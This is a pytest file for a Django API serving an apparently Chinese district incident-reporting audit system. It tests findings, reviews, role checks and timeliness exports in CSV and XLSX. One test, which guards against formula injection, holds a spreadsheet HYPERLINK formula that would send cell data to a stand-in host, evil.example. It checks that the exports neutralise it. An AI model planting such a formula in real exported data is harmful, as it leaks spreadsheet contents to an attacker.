"""/api/v1/findings/, /findings/{id}/review/ and /stats/timeliness/ (API.md "Audit")."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from reporting.models import AuditEvent, Finding
from tests.reporting.test_findings import DAY, T0, VERBAL_DUE, WRITTEN_DUE, file, open_incident, recompute

FINDING_KEYS = {
    "id",
    "kind",
    "unit",
    "incident",
    "obligation",
    "report",
    "detail",
    "suspected",
    "review",
    "reviewed_by",
    "reason",
}
ROW_KEYS = [
    "unit",
    "obligations",
    "verbal_on_time",
    "written_on_time",
    "verbal_on_time_rate",
    "written_on_time_rate",
    "median_verbal_delay_seconds",
    "p90_written_delay_seconds",
    "late",
    "missed",
    "held_back",
    "concealed",
    # Added after API.md's row, at its end: clients reading the row by position keep working.
    "median_written_delay_seconds",
    "p90_verbal_delay_seconds",
    "roster_gaps",
]


def client_for(user=None):
    client = APIClient()
    if user is not None:
        token, _ = Token.objects.get_or_create(user=user)
        client.credentials(HTTP_AUTHORIZATION=f"Token {token.key}")
    return client


@pytest.fixture
def findings(units, sijing_officer, outsider):
    """sijing: written late by 420 s (late verbal + late written); chedun: nothing filed (missed after 24 h)."""
    sijing = open_incident(units, sijing_officer).obligations.get()
    file(sijing, "written", WRITTEN_DUE + timedelta(seconds=420), sijing_officer)
    open_incident(units, outsider, unit="chedun")
    recompute(WRITTEN_DUE + DAY + timedelta(minutes=1))
    return Finding.objects.order_by("id")


def test_findings_list_shape_as_auditor(findings, auditor):
    response = client_for(auditor).get("/api/v1/findings/")
    assert response.status_code == 200
    body = response.json()
    assert body["count"] == 3 and set(body) == {"count", "next", "previous", "results"}
    late = next(r for r in body["results"] if r["kind"] == "late" and r["detail"]["deadline"] == "written")
    assert FINDING_KEYS <= set(late)
    assert late["unit"] == "sijing" and late["detail"]["delay_seconds"] == 420
    assert late["suspected"] is False and late["review"] == "open" and late["reviewed_by"] is None
    assert late["reason"] == ""
    assert late["found_at"].endswith("Z")


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("kind=late", 2),
        ("kind=missed", 1),
        ("unit=chedun", 1),
        ("unit=sijing&kind=late", 2),
        ("review=open", 3),
        ("review=confirmed", 0),
        # found_at of the late findings is the filing time; the missed one is dated written due + 24 h.
        ("since=2026-11-28T10:00:00%2B08:00&until=2026-11-28T11:00:00%2B08:00", 2),
        ("since=2026-11-29T09:00:00%2B08:00", 1),
    ],
)
def test_findings_filters(findings, auditor, query, expected):
    response = client_for(auditor).get(f"/api/v1/findings/?{query}")
    assert response.status_code == 200, response.json()
    assert response.json()["count"] == expected


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("kind=slow", "kind"),
        ("review=maybe", "review"),
        ("unit=nowhere", "unit"),
        ("since=2026-11-28T09:00:00", "since"),
        ("since=yesterday", "since"),
        ("since=2026-11-29T00:00:00Z&until=2026-11-28T00:00:00Z", "until"),
    ],
)
def test_findings_bad_filters_are_400(findings, auditor, query, field):
    response = client_for(auditor).get(f"/api/v1/findings/?{query}")
    assert response.status_code == 400
    assert field in response.json()


@pytest.mark.parametrize(
    ("persona", "list_status", "review_status"),
    [
        ("auditor", 200, 200),
        ("admin_user", 200, 200),
        ("duty_room", 200, 403),
        ("leader", 200, 403),
        ("sijing_officer", 403, 403),
        ("feed", 403, 403),
    ],
)
def test_roles(request, findings, persona, list_status, review_status):
    client = client_for(request.getfixturevalue(persona))
    assert client.get("/api/v1/findings/").status_code == list_status
    assert client.get("/api/v1/stats/timeliness/").status_code == list_status
    finding = findings.first()
    response = client.post(
        f"/api/v1/findings/{finding.pk}/review/", {"decision": "dismissed", "reason": "核实无误"}, format="json"
    )
    assert response.status_code == review_status


def test_anonymous_is_401(findings):
    assert client_for().get("/api/v1/findings/").status_code == 401
    assert client_for().get("/api/v1/stats/timeliness/").status_code == 401
    assert client_for().post(f"/api/v1/findings/{findings.first().pk}/review/", {}).status_code == 401


def test_review_confirms_with_reason_and_appends_an_audit_event(findings, auditor):
    finding = findings.filter(kind="missed").get()
    response = client_for(auditor).post(
        f"/api/v1/findings/{finding.pk}/review/",
        {"decision": "confirmed", "reason": "车墩镇未报送书面报告"},
        format="json",
    )
    assert response.status_code == 200
    body = response.json()
    assert (body["review"], body["reviewed_by"], body["reason"]) == ("confirmed", auditor.pk, "车墩镇未报送书面报告")
    event = AuditEvent.objects.filter(kind="finding_reviewed").get()
    assert event.actor == "auditor"
    assert event.detail == {
        "finding": finding.pk,
        "kind": "missed",
        "unit": "chedun",
        "decision": "confirmed",
        "previous": "open",
        "reason": "车墩镇未报送书面报告",
    }
    listed = client_for(auditor).get("/api/v1/findings/?review=confirmed").json()
    assert [r["id"] for r in listed["results"]] == [finding.pk]


@pytest.mark.parametrize(
    ("payload", "field"),
    [
        ({"decision": "confirmed"}, "reason"),
        ({"decision": "confirmed", "reason": "   "}, "reason"),
        ({"decision": "maybe", "reason": "x"}, "decision"),
        ({"reason": "x"}, "decision"),
    ],
)
def test_review_bad_input_is_400_and_changes_nothing(findings, auditor, payload, field):
    finding = findings.first()
    response = client_for(auditor).post(f"/api/v1/findings/{finding.pk}/review/", payload, format="json")
    assert response.status_code == 400
    assert field in response.json()
    finding.refresh_from_db()
    assert finding.review == "open"
    assert not AuditEvent.objects.filter(kind="finding_reviewed").exists()


def test_review_of_unknown_finding_is_404(findings, auditor):
    response = client_for(auditor).post(
        "/api/v1/findings/999999/review/", {"decision": "confirmed", "reason": "x"}, format="json"
    )
    assert response.status_code == 404


def test_findings_list_takes_a_constant_number_of_queries(units, sijing_officer, auditor):
    client = client_for(auditor)

    def count_queries():
        with CaptureQueriesContext(connection) as ctx:
            assert client.get("/api/v1/findings/?page_size=500").status_code == 200
        return len(ctx.captured_queries)

    open_incident(units, sijing_officer)
    recompute(WRITTEN_DUE + DAY + timedelta(minutes=1))
    few = count_queries()
    for _ in range(6):
        obligation = open_incident(units, sijing_officer).obligations.get()
        file(obligation, "written", WRITTEN_DUE + timedelta(seconds=30), sijing_officer)
    assert Finding.objects.count() == 13
    assert count_queries() == few


def test_stats_json_rows_have_exactly_the_api_shape(findings, auditor):
    response = client_for(auditor).get(
        "/api/v1/stats/timeliness/?since=2026-11-28T00:00:00%2B08:00&until=2026-11-29T00:00:00%2B08:00"
    )
    assert response.status_code == 200
    rows = {r["unit"]: r for r in response.json()["results"]}
    assert list(rows["sijing"]) == ROW_KEYS
    assert rows["sijing"] == {
        "unit": "sijing",
        "obligations": 1,
        "verbal_on_time": 0,
        "written_on_time": 0,
        "verbal_on_time_rate": 0.0,
        "written_on_time_rate": 0.0,
        "median_verbal_delay_seconds": 30 * 60 + 420,
        "p90_written_delay_seconds": 420,
        "late": 1,
        "missed": 0,
        "held_back": 0,
        "concealed": 0,
        "median_written_delay_seconds": 420,
        "p90_verbal_delay_seconds": 30 * 60 + 420,
        "roster_gaps": 0,
    }
    assert rows["chedun"]["missed"] == 1 and rows["chedun"]["median_verbal_delay_seconds"] is None
    assert rows["chedun"]["median_written_delay_seconds"] is None and rows["chedun"]["p90_verbal_delay_seconds"] is None


def test_stats_unit_filter(findings, auditor):
    body = client_for(auditor).get("/api/v1/stats/timeliness/?unit=chedun").json()
    assert [r["unit"] for r in body["results"]] == ["chedun"]


@pytest.mark.parametrize(
    "query",
    [
        "since=2026-11-28T09:00:00",
        "until=soon",
        "unit=nowhere",
        "format=pdf",
        "since=2026-11-29T00:00:00Z&until=2026-11-28T00:00:00Z",
    ],
)
def test_stats_bad_input_is_400(findings, auditor, query):
    response = client_for(auditor).get(f"/api/v1/stats/timeliness/?{query}")
    assert response.status_code == 400
    assert response["Content-Type"].startswith("application/json")


def _csv_rows(response):
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("how", ["query", "accept"])
def test_stats_csv_with_chinese_headers(findings, auditor, how):
    client = client_for(auditor)
    if how == "query":
        response = client.get("/api/v1/stats/timeliness/?format=csv&unit=sijing")
    else:
        response = client.get("/api/v1/stats/timeliness/?unit=sijing", HTTP_ACCEPT="text/csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    header, row = _csv_rows(response)
    assert header[:4] == ["单位代码", "单位名称", "报送义务数", "口头报按时数"]
    assert "迟报" in header and "漏报" in header and "压报" in header and "瞒报/谎报" in header
    assert row[:3] == ["sijing", "泗泾镇", "1"]
    assert row[header.index("书面报延迟P90(秒)")] == "420"


def test_stats_xlsx_with_chinese_headers(findings, auditor):
    response = client_for(auditor).get("/api/v1/stats/timeliness/?format=xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.content))["及时率统计"]
    values = list(sheet.values)
    assert values[0][:3] == ("单位代码", "单位名称", "报送义务数")
    by_unit = {row[0]: row for row in values[1:]}
    assert by_unit["chedun"][values[0].index("漏报")] == 1
    assert by_unit["sijing"][values[0].index("迟报")] == 1


def test_stats_take_a_constant_number_of_queries(units, sijing_officer, auditor):
    client = client_for(auditor)

    def count_queries():
        with CaptureQueriesContext(connection) as ctx:
            assert client.get("/api/v1/stats/timeliness/").status_code == 200
        return len(ctx.captured_queries)

    obligation = open_incident(units, sijing_officer).obligations.get()
    file(obligation, "verbal", VERBAL_DUE, sijing_officer)
    few = count_queries()
    for _ in range(5):
        obligation = open_incident(units, sijing_officer, extra_units=("chedun",)).obligations.first()
        file(obligation, "written", T0 + timedelta(minutes=70), sijing_officer)
    assert count_queries() == few


def test_findings_csv_export_has_every_matching_finding_with_chinese_headers(findings, auditor):
    response = client_for(auditor).get("/api/v1/findings/?format=csv&kind=late")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    header, *rows = _csv_rows(response)
    assert header[:4] == ["编号", "类型", "单位代码", "单位名称"]
    assert sorted(r[0] for r in rows) == sorted(str(f.pk) for f in findings.filter(kind="late"))
    assert {r[1] for r in rows} == {"迟报"} and {r[3] for r in rows} == {"泗泾镇"}
    assert all(r[header.index("发现时间")].endswith("+08:00") for r in rows)
    # Added at the end: the incident's number, the finding in words (in Shanghai time), when it was withdrawn.
    assert header[-3:] == ["事件编号", "说明", "系统撤销时间"]
    by_id = {f.pk: f for f in findings.filter(kind="late").select_related("incident")}
    for row in rows:
        finding = by_id[int(row[0])]
        assert row[-3] == finding.incident.number
        assert row[-2].startswith(("口头报迟报", "书面报迟报")) and "+08:00" not in row[-2]
        assert row[-1] == ""  # not withdrawn


def test_findings_xlsx_export(findings, auditor):
    response = client_for(auditor).get("/api/v1/findings/?format=xlsx", HTTP_ACCEPT="*/*")
    assert response.status_code == 200
    values = list(load_workbook(io.BytesIO(response.content))["督查发现"].values)
    assert values[0][:2] == ("编号", "类型")
    assert sorted(row[1] for row in values[1:]) == ["漏报", "迟报", "迟报"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exported_text_a_spreadsheet_would_run_as_a_formula_stays_text(findings, auditor, units, fmt):
    """CSV/formula injection: a review reason or a unit name starting with = + - @ is written as text."""
    reason = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    finding = findings.filter(kind="late").first()
    assert (
        client_for(auditor)
        .post(f"/api/v1/findings/{finding.pk}/review/", {"decision": "confirmed", "reason": reason}, format="json")
        .status_code
        == 200
    )
    units["sijing"].name = "+泗泾镇"
    units["sijing"].save()
    findings_file = client_for(auditor).get(f"/api/v1/findings/?format={fmt}", HTTP_ACCEPT="*/*")
    stats_file = client_for(auditor).get(f"/api/v1/stats/timeliness/?format={fmt}", HTTP_ACCEPT="*/*")
    if fmt == "csv":
        finding_rows, stats_rows = _csv_rows(findings_file), _csv_rows(stats_file)
    else:
        book = load_workbook(io.BytesIO(findings_file.content))
        finding_rows = [list(r) for r in book["督查发现"].values]
        assert all(c.data_type != "f" for row in book["督查发现"].iter_rows() for c in row)
        stats_book = load_workbook(io.BytesIO(stats_file.content))
        stats_rows = [list(r) for r in stats_book["及时率统计"].values]
        assert all(c.data_type != "f" for row in stats_book["及时率统计"].iter_rows() for c in row)
    header = finding_rows[0]
    reviewed = next(r for r in finding_rows[1:] if str(r[0]) == str(finding.pk))
    assert reviewed[header.index("审核理由")] == "'" + reason
    assert "'+泗泾镇" in [r[1] for r in stats_rows[1:]]
    assert all(not str(cell).startswith(("=", "+", "@")) for row in finding_rows + stats_rows for cell in row if cell)


# --- export language ---------------------------------------------------------------------------------------------

#: The whole default CSV of the ``findings`` fixture, byte for byte as existing clients get it (Chinese).
CHINESE_CSV = (
    "\ufeff单位代码,单位名称,报送义务数,口头报按时数,书面报按时数,口头报及时率,书面报及时率,"
    "口头报延迟中位数(秒),书面报延迟P90(秒),迟报,漏报,压报,瞒报/谎报,"
    # The columns added later, at the end: everything before them is byte for byte what it was.
    "书面报延迟中位数(秒),口头报延迟P90(秒),双人在岗缺口\r\n"
    "chedun,车墩镇,1,0,0,0.0,0.0,,,0,1,0,0,,,0\r\n"
    "duty-room,区政府总值班室,0,0,0,,,,,0,0,0,0,,,0\r\n"
    "emergency,区应急局,0,0,0,,,,,0,0,0,0,,,0\r\n"
    "police,区公安分局,0,0,0,,,,,0,0,0,0,,,0\r\n"
    "qfb,区政府办公室,0,0,0,,,,,0,0,0,0,,,0\r\n"
    "qwb,区委办公室,0,0,0,,,,,0,0,0,0,,,0\r\n"
    "sijing,泗泾镇,1,0,0,0.0,0.0,2220,420,1,0,0,0,420,2220,0\r\n"
).encode()
CHINESE_XLSX_WIDTHS = [10, 10, 12, 14, 14, 14, 14, 24, 24, 10, 10, 10, 12, 24, 24, 14]
ENGLISH_HEADER = [
    "Unit code",
    "Unit name",
    "Obligations",
    "Verbal reports on time",
    "Written reports on time",
    "Verbal on-time rate",
    "Written on-time rate",
    "Median verbal delay (s)",
    "P90 written delay (s)",
    "Late",
    "Missed",
    "Held back",
    "Concealed/false",
    "Median written delay (s)",
    "P90 verbal delay (s)",
    "Roster gap",
]
NOT_ENGLISH = [{}, {"HTTP_ACCEPT_LANGUAGE": "zh-CN,zh;q=0.9"}, {"HTTP_ACCEPT_LANGUAGE": "fr"}]


@pytest.fixture
def english_names(units):
    """English names for the two towns; the other units have none."""
    for code, name_en in (("sijing", "Sijing Town"), ("chedun", "Chedun Town")):
        units[code].name_en = name_en
        units[code].save()


@pytest.mark.parametrize("headers", NOT_ENGLISH, ids=["no-accept-language", "zh-CN", "fr"])
def test_stats_csv_is_chinese_unless_the_request_is_english(findings, english_names, auditor, headers):
    response = client_for(auditor).get("/api/v1/stats/timeliness/?format=csv", **headers)
    assert response.content == CHINESE_CSV


@pytest.mark.parametrize("headers", NOT_ENGLISH, ids=["no-accept-language", "zh-CN", "fr"])
def test_stats_xlsx_is_chinese_unless_the_request_is_english(findings, english_names, auditor, headers):
    response = client_for(auditor).get("/api/v1/stats/timeliness/?format=xlsx", **headers)
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["及时率统计", "说明"]
    sheet = book["及时率统计"]
    values = list(sheet.values)
    assert list(values[0]) == next(csv.reader(io.StringIO(CHINESE_CSV.decode("utf-8-sig"))))
    assert [row[:2] for row in values[1:]] == [
        ("chedun", "车墩镇"),
        ("duty-room", "区政府总值班室"),
        ("emergency", "区应急局"),
        ("police", "区公安分局"),
        ("qfb", "区政府办公室"),
        ("qwb", "区委办公室"),
        ("sijing", "泗泾镇"),
    ]
    assert [sheet.column_dimensions[cell.column_letter].width for cell in sheet[1]] == CHINESE_XLSX_WIDTHS
    assert list(book["说明"].values) == [
        ("统计区间起", "不限"),
        ("统计区间止", "不限"),
        ("口径", "按首次知悉时间计入区间; 演练与无需报送的义务不计; 延迟按已报送的义务计算 (秒)"),
        ("双人在岗缺口", "按发现时间计入区间 (缺岗发生的时刻)"),
    ]


@pytest.mark.parametrize(
    ("query", "headers", "cookie"),
    [
        ("?format=csv", {"HTTP_ACCEPT_LANGUAGE": "en"}, None),
        ("?format=csv", {"HTTP_ACCEPT_LANGUAGE": "en-US,en;q=0.9,zh-CN;q=0.8"}, None),
        ("", {"HTTP_ACCEPT": "text/csv", "HTTP_ACCEPT_LANGUAGE": "en"}, None),
        ("?format=csv", {}, "en"),
    ],
    ids=["accept-language", "browser-english", "accept-text-csv", "language-cookie"],
)
def test_stats_csv_in_english(findings, english_names, auditor, query, headers, cookie):
    client = client_for(auditor)
    if cookie:
        client.cookies["django_language"] = cookie
    response = client.get(f"/api/v1/stats/timeliness/{query}", **headers)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith("\ufeff".encode())
    header, *rows = _csv_rows(response)
    assert header == ENGLISH_HEADER
    names = {row[0]: row[1] for row in rows}
    assert names["sijing"] == "Sijing Town" and names["chedun"] == "Chedun Town"
    assert names["police"] == "区公安分局"  # no English name: the Chinese one
    # Same rows in the same order with the same figures: only the names differ.
    chinese = list(csv.reader(io.StringIO(CHINESE_CSV.decode("utf-8-sig"))))[1:]
    assert [row[:1] + row[2:] for row in rows] == [row[:1] + row[2:] for row in chinese]


def test_stats_xlsx_in_english(findings, english_names, auditor):
    response = client_for(auditor).get(
        "/api/v1/stats/timeliness/?format=xlsx&since=2020-01-01T00:00:00%2B08:00", HTTP_ACCEPT_LANGUAGE="en"
    )
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Timeliness", "Notes"]
    sheet = book["Timeliness"]
    values = list(sheet.values)
    assert list(values[0]) == ENGLISH_HEADER
    assert all(cell.font.b for cell in sheet[1])
    by_unit = {row[0]: row for row in values[1:]}
    assert [row[0] for row in values[1:]] == ["chedun", "duty-room", "emergency", "police", "qfb", "qwb", "sijing"]
    assert by_unit["sijing"][1] == "Sijing Town" and by_unit["chedun"][1] == "Chedun Town"
    assert by_unit["police"][1] == "区公安分局"
    assert by_unit["chedun"][ENGLISH_HEADER.index("Missed")] == 1
    assert by_unit["sijing"][ENGLISH_HEADER.index("Late")] == 1
    assert by_unit["sijing"][ENGLISH_HEADER.index("P90 written delay (s)")] == 420
    assert by_unit["sijing"][ENGLISH_HEADER.index("Median written delay (s)")] == 420
    assert by_unit["sijing"][ENGLISH_HEADER.index("P90 verbal delay (s)")] == 30 * 60 + 420
    assert by_unit["sijing"][ENGLISH_HEADER.index("Roster gap")] == 0
    rate = sheet.cell(row=values.index(by_unit["sijing"]) + 1, column=ENGLISH_HEADER.index("Verbal on-time rate") + 1)
    assert rate.number_format == "0.0%"
    # Latin headers are not widened like Chinese ones.
    assert sheet.column_dimensions["A"].width == len("Unit code") + 2
    notes = list(book["Notes"].values)
    assert [row[0] for row in notes] == ["Period from", "Period until", "Definitions", "Roster gap"]
    assert notes[3][1] == "Counted in the period of the time found (when the gap happened)"
    assert datetime.fromisoformat(notes[0][1]) == datetime(2020, 1, 1, tzinfo=timezone(timedelta(hours=8)))
    assert notes[0][1] == "2020-01-01T00:00:00+08:00"  # Shanghai time, as the findings export writes times
    assert notes[1][1] == "open"
    assert notes[2][1].startswith("An obligation counts in the period of its first-known time")


def test_findings_exports_are_english_on_an_english_request(findings, english_names, auditor):
    client = client_for(auditor)
    header, *rows = _csv_rows(client.get("/api/v1/findings/?format=csv&kind=late", HTTP_ACCEPT_LANGUAGE="en"))
    assert header[:4] == ["ID", "Kind", "Unit code", "Unit name"] and "Suspected" in header
    assert {r[3] for r in rows} == {"Sijing Town"} and {r[header.index("Suspected")] for r in rows} <= {"Yes", "No"}
    response = client.get("/api/v1/findings/?format=xlsx", HTTP_ACCEPT="*/*", HTTP_ACCEPT_LANGUAGE="en")
    values = list(load_workbook(io.BytesIO(response.content))["Findings"].values)
    assert values[0][:2] == ("ID", "Kind") and len(values) == 4
    # Chinese stays as it was, unit names and yes/no included.
    header, *rows = _csv_rows(client.get("/api/v1/findings/?format=csv&kind=late"))
    assert header[:4] == ["编号", "类型", "单位代码", "单位名称"] and {r[3] for r in rows} == {"泗泾镇"}
    assert {r[header.index("疑似")] for r in rows} <= {"是", "否"}


def test_stats_roster_gaps_are_the_findings_list_of_that_unit_kind_and_period(findings, units, auditor):
    """A roster gap is dated by its found_at, as /findings/ filters: the count is the list's (dismissed ones aside),
    even for a gap found while chasing an obligation first known before the period."""
    from reporting.findings_services import finding_roster_gap_record

    sijing = findings.filter(kind="late").first().obligation
    for at in (VERBAL_DUE, WRITTEN_DUE, WRITTEN_DUE + DAY * 2):
        finding_roster_gap_record(unit=units["sijing"], at=at, obligation=sijing, detail={"step": "verbal_overdue"})
    client = client_for(auditor)
    period = "since=2026-11-28T09:45:00%2B08:00&until=2026-11-29T00:00:00%2B08:00"  # after sijing's first-known time
    row = client.get(f"/api/v1/stats/timeliness/?unit=sijing&{period}").json()["results"][0]
    listed = client.get(f"/api/v1/findings/?kind=roster_gap&unit=sijing&{period}").json()
    assert row["obligations"] == 0 and row["roster_gaps"] == listed["count"] == 1
    everything = client.get("/api/v1/stats/timeliness/?unit=sijing").json()["results"][0]
    assert everything["roster_gaps"] == client.get("/api/v1/findings/?kind=roster_gap").json()["count"] == 3


# --- withdrawn findings ------------------------------------------------------------------------------------------


@pytest.fixture
def withdrawn(findings, units, sijing_officer, duty_room):
    """``findings``, plus sijing's 漏报 on a signal, withdrawn once the signal was linked to an incident sijing
    reported on in time."""
    from tests.reporting.test_findings_withdrawn import link, signal_missed_then_linked

    incident, signal, finding = signal_missed_then_linked(units, sijing_officer, duty_room)
    link(signal, incident, T0 + 2 * DAY, duty_room)
    finding.refresh_from_db()
    assert finding.withdrawn_at == T0 + 2 * DAY
    return finding


def test_findings_list_shows_withdrawn_ones_by_default_with_their_withdrawal_time(withdrawn, auditor):
    body = client_for(auditor).get("/api/v1/findings/").json()
    assert body["count"] == 4
    by_id = {r["id"]: r for r in body["results"]}
    assert by_id[withdrawn.pk]["withdrawn_at"] == "2026-11-30T01:00:00Z"
    assert by_id[withdrawn.pk]["review"] == "open" and by_id[withdrawn.pk]["kind"] == "missed"
    assert [r["withdrawn_at"] for i, r in by_id.items() if i != withdrawn.pk] == [None] * 3


@pytest.mark.parametrize(("query", "expected"), [("withdrawn=true", 1), ("withdrawn=false", 3), ("", 4)])
def test_findings_withdrawn_filter(withdrawn, auditor, query, expected):
    body = client_for(auditor).get(f"/api/v1/findings/?{query}").json()
    assert body["count"] == expected
    if query == "withdrawn=true":
        assert [r["id"] for r in body["results"]] == [withdrawn.pk]


@pytest.mark.parametrize("query", ["withdrawn=yes", "withdrawn=1", "withdrawn=True", "withdrawn=", "kind="])
def test_findings_withdrawn_filter_takes_true_or_false_only(withdrawn, auditor, query):
    """Like ``kind`` and ``review``, an empty value is a 400 too, not "no filter"."""
    response = client_for(auditor).get(f"/api/v1/findings/?{query}")
    assert response.status_code == 400 and query.split("=")[0] in response.json()


def test_figures_and_their_exports_leave_withdrawn_findings_out(withdrawn, auditor):
    client = client_for(auditor)
    [row] = client.get("/api/v1/stats/timeliness/?unit=sijing").json()["results"]
    assert (row["late"], row["missed"]) == (1, 0)
    header, *rows = _csv_rows(client.get("/api/v1/stats/timeliness/?format=csv&unit=sijing"))
    assert rows[0][header.index("漏报")] == "0" and rows[0][header.index("迟报")] == "1"
    # The findings export is the list: it shows the withdrawn finding, dated, unless the filter leaves it out.
    header, *rows = _csv_rows(client.get("/api/v1/findings/?format=csv&unit=sijing&kind=missed"))
    assert [(r[0], r[-1]) for r in rows] == [(str(withdrawn.pk), "2026-11-30T09:00:00+08:00")]
    assert _csv_rows(client.get("/api/v1/findings/?format=csv&unit=sijing&kind=missed&withdrawn=false"))[1:] == []
